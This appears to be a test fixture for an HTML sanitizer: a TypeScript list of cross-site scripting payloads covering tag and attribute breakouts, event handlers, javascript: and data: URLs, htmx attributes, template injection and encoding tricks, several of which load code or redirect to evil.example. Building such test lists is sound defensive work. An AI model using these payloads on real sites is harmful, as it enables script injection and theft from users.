/*
 * Strings that have run somewhere when a page showed them raw: one or more for each place in which a value can stand
 * (between tags, in an attribute of either quote or none, in an address, in a style, in a comment, in an htmx
 * attribute) and for each way in which a filter that takes things out has been led round. Each sets `window.__ran` or
 * asks a foreign host, so that a test can see it.
 */
const ran = 'window.__ran=1'
const away = 'https://evil.example'

const betweenTags = [
  `<script>${ran}</script>`,
  `<script src=${away}/a.js></script>`,
  `<ScRiPt>${ran}</sCrIpT>`,
  `<scr<script>ipt>${ran}</scr</script>ipt>`,
  `<script\n>${ran}</script\n>`,
  `<img src=x onerror=${ran}>`,
  `<img/src=x/onerror=${ran}>`,
  `<img src="${away}/a.png">`,
  `<image src=x onerror=${ran}>`,
  `<svg onload=${ran}>`,
  `<svg/onload=${ran}//`,
  `<svg><script>${ran}</script></svg>`,
  `<svg><animate onbegin=${ran} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${ran}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${ran}'/></svg>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${ran}></style></mglyph></table></mtext></math>`,
  `<body onload=${ran}>`,
  `<iframe src="javascript:parent.${ran}"></iframe>`,
  `<iframe srcdoc="<script>parent.${ran}</script>"></iframe>`,
  `<object data="javascript:${ran}"></object>`,
  `<embed src="javascript:${ran}">`,
  `<video><source onerror=${ran}></video>`,
  `<audio src=x onerror=${ran}></audio>`,
  `<details open ontoggle=${ran}>x</details>`,
  `<input autofocus onfocus=${ran}>`,
  `<select autofocus onfocus=${ran}><option>x</select>`,
  `<textarea autofocus onfocus=${ran}>`,
  `<marquee onstart=${ran}>x</marquee>`,
  `<style>@import "${away}/a.css";</style>`,
  `<style>*{background:url(${away}/a.png)}</style>`,
  `<style onload=${ran}></style>`,
  `<link rel=stylesheet href=${away}/a.css>`,
  `<link rel=prefetch href=${away}/a>`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${ran}">`,
  `<base href="${away}/">`,
  `<form action="${away}"><button autofocus>x</button></form>`,
  `<isindex type=image src=1 onerror=${ran}>`,
  `<template><script>${ran}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${ran}>"></noscript>`,
  `<title><img src=x onerror=${ran}></title>`,
  `<xmp><img src=x onerror=${ran}></xmp>`,
  `<a href="javascript:${ran}">x</a>`,
  `<a href="data:text/html,<script>${ran}</script>">x</a>`,
  `<a href="jav&#x09;ascript:${ran}">x</a>`,
  `<!--><img src=x onerror=${ran}>-->`,
  `<![CDATA[<img src=x onerror=${ran}>]]>`,
  `<?xml version="1.0"?><script>${ran}</script>`,
]

const outOfPlaces = [
  `"><script>${ran}</script>`,
  `'><script>${ran}</script>`,
  `--><script>${ran}</script>`,
  `</title><script>${ran}</script>`,
  `</textarea><script>${ran}</script>`,
  `</option></select><img src=x onerror=${ran}>`,
  `</style><script>${ran}</script>`,
  `</script><script>${ran}</script>`,
  `" onfocus=${ran} autofocus x="`,
  `' onfocus=${ran} autofocus x='`,
  ` onfocus=${ran} autofocus `,
  `" onmouseover="${ran}`,
  `\`><img src=x onerror=${ran}>`,
  `" style="background:url(${away}/b.png)`,
  `javascript:${ran}`,
  `JaVaScRiPt:${ran}`,
  `java\tscript:${ran}`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `//evil.example/a`,
]

const byHtmx = [
  `<div hx-get="/report" hx-trigger="load"></div>`,
  `<div hx-get="${away}" hx-trigger="load"></div>`,
  `<div data-hx-get="/report" data-hx-trigger="load"></div>`,
  `<div hx-on:htmx:load="${ran}" hx-trigger="load"></div>`,
  `<div hx-on::after:init="${ran}"></div>`,
  `<div hx-vals="js:{x:${ran}}" hx-get="/" hx-trigger="load"></div>`,
  `<form hx-post="/sign-out" hx-trigger="load"></form>`,
  `" hx-get="/report" hx-trigger="load" x="`,
]

const disguised = [
  `&lt;script&gt;${ran}&lt;/script&gt;`,
  `&#60;img src=x onerror=${ran}&#62;`,
  `%3Cscript%3E${ran}%3C/script%3E`,
  `\\u003cscript\\u003e${ran}\\u003c/script\\u003e`,
  `＜script＞${ran}＜/script＞`,
  `<\u0000script>${ran}</script>`,
  `{{constructor.constructor('${ran}')()}}`,
  `\${${ran}}`,
  `#{${ran}}`,
  `{q1}{name}`,
  `<%= ${ran} %>`,
  `[[\${${ran}}]]`,
  `+ADw-script+AD4-${ran}+ADw-/script+AD4-`,
  `\u202e<script>${ran}</script>`,
  `<\u200bscript>${ran}</script>`,
]

export const xss: string[] = [...betweenTags, ...outOfPlaces, ...byHtmx, ...disguised]
